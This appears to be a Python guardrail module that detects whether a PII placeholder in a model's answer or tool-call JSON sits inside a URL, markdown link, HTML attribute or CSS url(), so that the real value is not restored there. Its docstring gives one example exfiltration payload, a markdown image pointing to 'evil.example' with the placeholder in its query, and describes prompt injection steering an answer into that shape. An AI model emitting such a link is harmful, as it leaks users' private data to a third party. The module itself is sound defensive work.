"""Whether a placeholder in an answer sits inside a link (``in_link``): restore keeps such a
placeholder as it is (``pii.restore_in_links: false``, the default), so that an answer a
prompt injection shaped (``![x](https://evil.example/?q=<EMAIL_1>)``) cannot carry the
caller's value to a third party when a chat UI renders it (an image loads with no click).

The decision reads only the text *before* the placeholder, in the model's own text
(placeholders not yet restored): at most ``WINDOW`` characters of it, and one small state
carried over the whole answer (whether it is inside an ``<...>`` destination). So a stream
decides exactly as the whole answer does, whatever its deltas, and needs to hold back
nothing more than a placeholder cut in half: the left context is text already sent. Each
decision costs time linear in the window (no step rereads it per character).

A placeholder is in a link when, in that window:

- the run of non-space characters just before it (a space escaped by a backslash does not
  end it) looks like a URL: it holds ``//`` (any ``scheme://`` or a protocol-relative
  ``//host``), a known scheme followed by ``:`` (``mailto:``, ``tel:``, ``data:``,
  ``javascript:``, ...), ``www.``, a host name followed by a path, query or fragment
  (``evil.example/``, ``evil.example?``), a ``%XX`` escape (a URL-encoded context), or an
  autolink not yet closed (``<x-app:...``, ``<a?b=``; the value alone, ``<<EMAIL_1>>``, is
  no link to anyone);
- or it is inside a markdown target not yet closed: after ``](`` (or ``] (``), until its
  parentheses balance; after a reference definition's ``]:``, until its destination ends;
  an ``<...>`` destination (spaces allowed) until its ``>``; line endings do not close a
  target (a destination may start on the next line, or go on past a backslash line break),
  a blank line does;
- or inside an HTML URL attribute's value not yet closed (``href=``, ``src =``, ``srcset=``,
  ``action=``, ...; a ``href=`` written inside another attribute's quoted value is none), or
  a CSS ``url(``;
- or the window holds no space at all (spaces are ASCII ones: a no-break space does not end
  a URL for a markdown renderer) (a run longer than the window is never trusted);
- or, reading the whole text before it (``link_state.AngleState``, carried along in one
  pass), it is inside an ``<...>`` destination (``](<``, ``]: <``) not yet closed by its
  ``>`` or a blank line, however far back it was opened (such a one can hold spaces), or
  inside a quoted value (``="...``, an HTML attribute's maybe) opened before the window.

``json`` mode reads a tool call's arguments (JSON text): the context is the JSON string the
placeholder sits in (back to its opening, unescaped quote), its escapes decoded (``\\/``,
``\\u002f``, ``\\n``, ...) before the same rule reads it. Being wrong errs on the safe side:
a placeholder taken for a link stays a placeholder, it never leaks.
"""

from __future__ import annotations

import json as jsonlib
import re
import string
from collections.abc import Callable

from farebox.guardrails.link_state import AngleState

WINDOW = 2048  # characters of left context a decision reads
MAX_TARGETS = 16  # markdown targets open at once past which an answer is taken as a link
_SCHEMES = (
    "https?|ftps?|wss?|file|mailto|tel|sms|smsto|mms|data|javascript|vbscript|blob|urn|geo|"
    "magnet|callto|im|xmpp|sips?|facetime|skype|whatsapp|tg|intent|market|itms-services|"
    "ipfs|ipns|gopher|irc|ircs|news|nntp|ldap|ssh|sftp|git|svn|rtsp|webcal|feed"
)
_SCHEME_SET = frozenset(re.sub(r"([\w\-]+)s\?", r"\1|\1s", _SCHEMES).split("|"))
# on the lower-cased text (``_LOWER``), so no IGNORECASE (an alternation of 50 schemes read
# case-insensitively at each position cost a millisecond per window)
_WWW = re.compile(r"(?<![a-z0-9\-])www\.")
_HOST_PATH = re.compile(r"[a-z0-9\-]\.[a-z]{2,63}[/?#]")
_PERCENT = re.compile(r"%[0-9a-f]{2}")
# a scheme is the whole run of scheme characters before a ``:`` (each run read once)
_SCHEME_AT = re.compile(r"(?<![a-z0-9+.\-])([a-z0-9+.\-]+):(?![\"'])")
_ATTRS = ("href", "src", "srcset", "action", "formaction", "poster", "background", "cite",
          "ping", "codebase", "longdesc", "lowsrc", "dynsrc", "data")  # fmt: skip
_ATTR_AT = re.compile(rf"(?:{'|'.join(_ATTRS)})\s*=\s*", re.IGNORECASE)  # matched where found
# the same, on the lower-cased text, where the name starts a word (what ``_last_attr`` checks)
_ATTR_START = re.compile(rf"(?<![\w\-])(?:{'|'.join(_ATTRS)})\s*=\s*")
_UNQUOTED_END = re.compile(r"[\s>]")
# a URL attribute and its value, whole (a group matched: closed), so a search skips the value
_ATTR_VALUE = re.compile(
    rf"(?<![\w\-])(?=[{''.join(sorted({a[0] for a in _ATTRS}))}])(?:{'|'.join(_ATTRS)})\s*=\s*"
    r"(?:\"[^\"]*(\")?|'[^']*(')?|`[^`]*(`)?|[^\s>]*([\s>])?)",
    re.IGNORECASE,
)
SPACES = " \t\n\r\f\v"  # ASCII only: a markdown renderer runs a URL through a no-break space
# keeps the length; the four non-ASCII letters that IGNORECASE's [a-z] took too, folded
_LOWER = str.maketrans(string.ascii_uppercase + "\u0130\u0131\u017f\u212a",
                       string.ascii_lowercase + "iisk")  # fmt: skip
_LAST_QUOTE = re.compile(r'"(?:\\\\)*+(?!\\)')  # on the reversed text
_JSON_ESCAPE = re.compile(r"\\(u[0-9a-fA-F]{4}|.)", re.DOTALL)
_JSON_SIMPLE = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f", "/": "/", "\\": "\\",
                '"': '"'}  # fmt: skip
_LAST_SPACE = re.compile(r"[ \t\n\r\f\v](?!\\)")  # on the reversed text: not after a \\
_AUTOLINK = re.compile(r"<[^<>\s]+\Z")  # an autolink not yet closed: ``<x-app:...``, ``<a?b=``
# what a markdown target's state reads: escapes, placeholders, openers, blank lines, brackets
_SIMPLE = r"\]\([^\s()<>\\]*\)"  # a simple inline target, whole: ``](url)``
_OPENS = r"\][ \t]*\n?[ \t]*[(:]"
_MD_OPENER = re.compile(rf"(?!{_SIMPLE}){_OPENS}")  # the next target left open
_Find = Callable[[str, int], "re.Match[str] | None"]
_MD_SKIP: dict[str, _Find] = {}  # by the kinds read: see ``_md_token``
_MD_TOKEN = re.compile(
    rf"\\[\s\S]|<[A-Z][A-Z0-9_]*_\d{{1,12}}>|{_SIMPLE}|{_OPENS}|\n[ \t]*\n|[<>()\n]"
)


def in_link(before: str, json: bool = False, angle: bool | None = None) -> bool:
    """Whether a placeholder right after ``before`` (the text before it, of which the last
    ``WINDOW`` characters are read) sits inside a link. ``angle``: whether the whole text
    before it ends inside an ``<...>`` destination, or a quoted value opened before the
    window (``link_state.AngleState.inside``, which a caller reading many placeholders in
    order carries along); None: read ``before`` for it."""
    if angle is None:
        angle = AngleState(json).fed(before).inside(WINDOW)
    window = before[-WINDOW:]
    full = len(window) >= WINDOW
    if json:
        window, quoted = _json_string(window, full)
        full = full and not quoted
    return angle or _in_text(window, full)


def _in_text(window: str, full: bool) -> bool:
    """``in_link`` on plain text (``full``: the window may start inside a longer run)."""
    start = run_start(window)
    if full and start == 0:
        return True  # no space in the whole window: a run too long to trust
    lower = window.translate(_LOWER)
    if _urlish(lower, start) or ("<" in window[start:] and _AUTOLINK.search(window, start)):
        return True
    if _open_attr(window, lower) or _open_css(lower):
        return True
    text = window.replace("\r\n", "\n").replace("\r", "\n")
    return _open_target(text)


def _urlish(lower: str, start: int) -> bool:
    """The run from ``start`` looks like a URL (``lower``: the window lower-cased)."""
    run = lower[start:]  # after a space: what the look-behinds read before it is no letter
    return (
        "//" in run
        or ("www." in run and _WWW.search(run) is not None)
        or ("." in run and _HOST_PATH.search(run) is not None)
        or ("%" in run and _PERCENT.search(run) is not None)
        or (":" in run and any(m.group(1) in _SCHEME_SET for m in _SCHEME_AT.finditer(run)))
    )


def run_start(window: str) -> int:
    """Where the run of non-space characters before the end of ``window`` starts: a space
    escaped by a backslash does not end it (a markdown destination goes on past one). One
    pass: the first unescaped space of the reversed window."""
    m = _LAST_SPACE.search(window[::-1])
    return 0 if m is None else len(window) - m.start()


def _json_string(window: str, full: bool) -> tuple[str, bool]:
    """The JSON string the placeholder sits in, its escapes decoded (``\\/``, ``\\uXXXX``,
    ``\\n``, ...), and whether its opening quote was seen. A full window may start inside
    an escape: its leading backslashes and the character after them are not read."""
    if full:
        lead = len(window) - len(window.lstrip("\\"))
        window = window[lead + 1 :]
    m = _LAST_QUOTE.search(window[::-1])  # after an even run of backslashes: unescaped
    opening = -1 if m is None else len(window) - m.start()
    content = window[opening:] if opening >= 0 else window
    if "\\" not in content:
        return content, opening >= 0
    try:
        decoded = jsonlib.loads(f'"{content}"', strict=False)
    except ValueError:  # a lone backslash at the end: escape by escape
        decoded = _JSON_ESCAPE.sub(_unescape, content)
    return decoded, opening >= 0


def _unescape(m: re.Match[str]) -> str:
    code = m.group(1)
    if code[0] == "u":
        return chr(int(code[1:], 16))
    return _JSON_SIMPLE.get(code, "\\" + code)


def _open_target(text: str) -> bool:
    """Inside a markdown link, image or reference definition's target not yet closed: after
    ``](`` (or ``] (``, spaces and a line ending allowed between) until its parentheses are
    balanced, after ``]:`` until the end of its destination, an ``<...>`` destination until
    its ``>``. Line endings do not close a target (a destination may start on the next line,
    and a renderer may take a line ending escaped by a backslash into it); a blank line
    does. Placeholders are plain characters here, and a backslash escapes what follows.
    Targets nest (one opened inside another is tracked too): past ``MAX_TARGETS`` open at
    once, the answer is taken as a link."""
    start = max(text.find("]"), text.rfind("\n\n"))  # a blank line closes what came before
    if text.find("]", start) < 0:
        return False
    targets: list[_Target] = []
    pos, reads = start, ""  # reads: the kinds of token that change a target (but the last)
    parens = _Parens(targets)
    while (m := _md_token(targets, reads)(text, pos)) is not None:
        token, at, pos = m.group(m.lastindex or 0), m.start(m.lastindex or 0), m.end()
        if token[0] in "()" and len(token) > 1:  # a run of them, from the skipping search
            done = parens.run(token)
            if done == len(token):
                continue
            token, at, pos = token[done], at + done, at + done + 1  # the one that closes
        if token[0] == "\n" and len(token) > 1:
            targets.clear()  # a blank line ends the paragraph, and any link in it
            continue
        opener = token[0] == "]" and token[-1] != ")"  # else a whole simple ``](url)``
        kind = token[-1] if opener else "p" if len(token) > 1 else token
        if not opener and targets[-1].angle:
            if kind not in reads:
                continue  # no target reads it (the search skips most of these at once)
            if kind in "()" and parens.step(kind):
                continue  # parentheses in inline targets past their lead: none closed
        parens.flush()
        targets = [t for t in targets if t.see(text, kind, at)]
        if opener:
            if len(targets) >= MAX_TARGETS:
                return True
            targets.append(_Target(kind == "(", pos))
        reads, parens = _reads(targets), _Parens(targets)
    run = run_start(text) if targets else 0  # once: each target compares against it
    return any(t.open(text, run) for t in targets)


def _md_token(targets: list[_Target], reads: str) -> _Find:
    """How to find the next token that changes ``targets``: openers alone when none is
    open; every token when the last one waits for its destination; else (``_MD_SKIP``) the
    tokens others read, one match stepping over the rest as ``_MD_TOKEN`` would."""
    if not targets:
        return _MD_OPENER.search
    if not targets[-1].angle:
        return _MD_TOKEN.search
    key = "".join(sorted(set(reads)))
    if key not in _MD_SKIP:
        rest = key.replace("(", "").replace(")", "")
        wanted = rf"{_OPENS}|\n[ \t]*\n" + ("|[()]+" if "(" in key else "")
        wanted += f"|[{re.escape(rest)}]" if rest else ""
        skipped = rf"\\[\s\S]|<[A-Z][A-Z0-9_]*_\d{{1,12}}>|{_SIMPLE}|(?!{wanted})[\s\S]"
        _MD_SKIP[key] = re.compile(rf"(?:{skipped})*+({wanted})").match  # match: no rescans
    return _MD_SKIP[key]


class _Parens:
    """Parentheses read by the inline targets past their lead, counted once for all of them
    (not once per target): each one's depth is its own plus ``pending``, which ``flush``
    adds before any target reads another token."""

    __slots__ = ("counting", "low", "pending")

    def __init__(self, targets: list[_Target]) -> None:
        self.counting = [t for t in targets if t.paren and t.angle > 1]
        self.low = min((t.depth for t in self.counting), default=2)
        self.pending = 0

    def step(self, kind: str) -> bool:
        """Read ``(`` or ``)``; False (nothing read) when a ``)`` would close a target."""
        if kind == "(":
            self.pending += 1
            return True
        if self.low + self.pending > 1:
            self.pending -= 1
            return True
        return False

    def run(self, parens: str) -> int:
        """Read a run of parentheses: how many were read before one that closes a target."""
        if ")" not in parens:
            self.pending += len(parens)
            return len(parens)
        for i, kind in enumerate(parens):
            if not self.step(kind):
                return i
        return len(parens)

    def flush(self) -> None:
        if self.pending:
            for t in self.counting:
                t.depth += self.pending
            self.pending = 0


def _reads(targets: list[_Target]) -> str:
    """The kinds of token (openers aside) that change one of ``targets`` past its lead: ``>``
    one inside an ``<...>`` destination, parentheses an inline one past it, a line ending a
    reference definition's."""
    out = ""
    for t in targets:
        if t.angle == 1:
            out += ">"
        elif t.angle > 1:
            out += "()" if t.paren else "\n"
    return out


class _Target:
    """An open markdown target: ``paren`` an inline ``](...)`` one (else a reference
    definition's), ``depth`` its open parentheses, ``angle`` 0 before its destination, 1
    inside an ``<...>`` one, 2 past its ``>``, 3 in or past a plain one (from ``at``)."""

    __slots__ = ("paren", "depth", "angle", "at")

    def __init__(self, paren: bool, at: int) -> None:
        self.paren = paren
        self.depth = 1
        self.angle = 0
        self.at = at

    def see(self, text: str, kind: str, at: int) -> bool:
        """Whether the target is still open after a token of ``kind`` at ``at`` (``p`` a
        placeholder, ``\\`` an escape, ``(`` or ``:`` an opener, else the character)."""
        if self.angle == 0:
            self._lead(text, kind, at)
            if self.angle == 0:
                return True  # a line ending before the destination
        if self.angle == 1:
            if kind == ">":
                self.angle = 2
            return True
        if kind == "\n":
            return self.paren  # a reference definition ends with its line
        if self.paren and kind in "()":
            self.depth += 1 if kind == "(" else -1
        return self.depth > 0

    def _lead(self, text: str, kind: str, at: int) -> None:
        """Where the destination starts, seen from the first token after the opener."""
        rest = text[self.at : at].lstrip(SPACES)
        if rest:
            self.angle, self.at = 3, at - len(rest)
        elif kind == "<":
            self.angle, self.at = 1, at + 1
        elif kind != "\n":
            self.angle, self.at = 3, at
        else:
            self.at = at + 1  # only spaces so far: never read them again

    def open(self, text: str, run: int) -> bool:
        """Whether a placeholder at the end of ``text`` (its run starting at ``run``) is in
        this target."""
        if self.paren or self.angle in (1, 2):
            return True
        at = self.at
        if self.angle == 0:
            rest = text[at:].lstrip(SPACES)
            if not rest:
                return True  # the placeholder starts the destination
            at = len(text) - len(rest)
        return run <= at  # a plain destination ends at a space


def _open_attr(window: str, lower: str) -> bool:
    """Inside the value of an HTML URL attribute not yet closed: a quoted value without its
    closing quote, an unquoted one without a space. The last one in the window is read
    first; when it is closed, the window's attributes are read from its start, each value
    skipped whole (so that a ``href=`` written inside another's quoted value is no attribute)."""
    value = _last_attr(window, lower)
    if value is None:
        return False
    if _value_end(window, len(window) - len(value)) < 0:
        return True
    last = None
    for last in _ATTR_VALUE.finditer(window):  # noqa: B007 (the last one is read)
        pass
    return last is not None and last.end() == len(window) and last.lastindex is None


def _value_end(text: str, at: int) -> int:
    """Where the attribute value starting at ``text[at]`` ends, or -1 if it does not."""
    if text.startswith("\\", at):  # a quote escaped inside a JSON string
        at += 1
    if text[at : at + 1] in ('"', "'", "`"):
        end = text.find(text[at], at + 1)
        return end if end < 0 else end + 1
    m = _UNQUOTED_END.search(text, at)
    return -1 if m is None else m.start()


def _last_attr(window: str, lower: str) -> str | None:
    """The text after the last ``name=`` of a URL attribute in ``window`` (``lower``: the
    same, lower-cased), or None: found by ``rfind`` (a regex search over the whole window
    costs ten times more, for each placeholder). Each name's ``rfind`` goes on from its own
    last miss, so the window is read once per name, however many false starts it holds."""
    found = {name: lower.rfind(name) for name in _ATTRS}
    for _ in range(8):
        name = max(found, key=found.__getitem__)
        at = found[name]
        if at < 0:
            return None
        m = _ATTR_AT.match(window, at)
        if m is not None and (at == 0 or not (lower[at - 1].isalnum() or lower[at - 1] in "_-")):
            return window[m.end() :]
        found[name] = lower.rfind(name, 0, at - 1 + len(name))
    last = None  # many false starts (``srcsrc...``): one regex pass finds the last one
    for last in _ATTR_START.finditer(lower):  # noqa: B007 (the last one is read)
        pass
    return None if last is None else window[last.end() :]


def _open_css(lower: str) -> bool:
    """Inside a CSS ``url(`` not yet closed, on the same line."""
    at = lower.rfind("url(")
    if at < 0:
        return False
    rest = lower[at + 4 :]
    return ")" not in rest and "\n" not in rest
